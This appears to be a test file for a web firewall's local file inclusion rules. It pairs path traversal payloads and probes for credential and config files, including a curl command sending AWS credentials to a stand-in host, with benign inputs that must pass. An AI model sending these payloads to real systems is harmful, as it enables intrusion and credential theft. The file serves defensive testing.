import test from "ava";
import { appRequests, checkRules, placeCases, ruleFile, testBlocks, testPasses, type AppPlace } from "./support.js";

const file = ruleFile("130-lfi.yaml", "/app");
const request = appRequests({ encoding: "latin1", xml: "attribute", header: "x-original-path" });

// [place, payload, lowest paranoia level that blocks it]
const ATTACKS: readonly (readonly [AppPlace, string, number])[] = [
  ["query", "../../../../etc/passwd", 1],
  ["rawquery", "file=..%252f..%252f..%252fetc%252fpasswd", 1],
  ["rawquery", "file=%c0%ae%c0%ae/%c0%ae%c0%ae/windows/win.ini", 1],
  ["rawquery", "file=%uff0e%uff0e%u2215%uff0e%uff0e%u2215boot.ini", 1],
  ["form", "....//....//....//etc/passwd", 1],
  ["json", "..\\..\\..\\windows\\system32\\drivers\\etc\\hosts", 1],
  ["cookie", "../../../../proc/self/environ", 1],
  ["header", "/static/../../../etc/shadow", 1],
  ["upload", "../../var/www/html/shell.php", 1],
  ["xml", "/app/..;/..;/WEB-INF/web.xml", 1],
  ["path", "/static/%2e%2e/%2e%2e/etc/passwd", 1],
  ["path", "/static/..%c0%af..%c0%afetc/passwd", 1],
  ["query", "/etc/passwd", 1],
  ["query", "C:\\Windows\\win.ini", 1],
  ["query", "/etc/./shadow", 1],
  ["query", ".env.production", 1],
  ["json", "/home/deploy/.ssh/id_rsa", 1],
  ["query", "/proc/self/cmdline", 1],
  ["form", "cat >/tmp/x.sh", 1],
  ["query", "backup.sql.gz", 1],
  ["path", "/.git/config", 1],
  ["path", "/backup/db.sql.gz", 1],
  ["path", "/wp-config.php.bak", 1],
  ["path", "/index.php~", 1],
  ["path", "/.vscode/settings.json", 1],
  ["path", "/app/.claude/settings.local.json", 1],
  ["path", "/proc/self/environ", 1],
  ["path", "/@fs/etc/passwd", 1],
  ["path", "/wp-content/debug.log", 1],
  ["ua", "cat /etc/passwd", 2],
  ["ua", "curl -d @/root/.aws/credentials evil.example", 2],
  ["path", "/.hidden-thing/data", 2],
];

testBlocks(file, placeCases(ATTACKS, request));

// Benign values that must pass at PL1; those marked true must also pass at PL2.
const BENIGN: readonly (readonly [AppPlace, string, boolean])[] = [
  ["query", "images/photo.jpg", true],
  ["query", "Wait... what?", true],
  ["query", "...", true],
  ["query", "..", true],
  ["form", "Release 1.2.3 .. 1.2.4 (see changelog)", true],
  ["json", "/api/v1/users/42", true],
  ["query", "report.final.v2.pdf", true],
  ["form", "C:\\Users\\Public\\Documents\\report.docx", true],
  ["query", "firstname.dockery@host.tld", true],
  ["rawquery", "history.history=test", true],
  ["query", "environment=production", true],
  ["form", "code=>/tmp", true],
  ["form", "Pens, paper, etc. etc.", true],
  ["query", "my.profile.page", true],
  ["cookie", "abc.def.ghi", true],
  ["path", "/.well-known/security.txt", true],
  ["path", "/jquery.history.min.js", true],
  ["path", "/node_modules/@osd/ui-framework/dist/kui_light.css", true],
  ["path", "/api/continue/session", true],
  ["path", "/assets/app.3f2a1b.js", true],
  ["path", "/blog/2024/05/the-sys-admin-guide", true],
  ["path", "/get/foo../1234", true],
  ["path", "/get/..foo", true],
  ["ua", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", true],
  ["referer", "https://example.com/docs/../index.html", true],
  ["upload", "holiday-photo.jpg", true],
  ["xml", "https://example.com/feed.xml", true],
];

testPasses(file, placeCases(BENIGN, request));

test("every rule is in the file's id range and carries the attack-lfi and owasp-a01 tags", (t) => {
  t.true(file.rules.length >= 10);
  checkRules(t, file, ["attack-lfi", "owasp-a01"]);
});
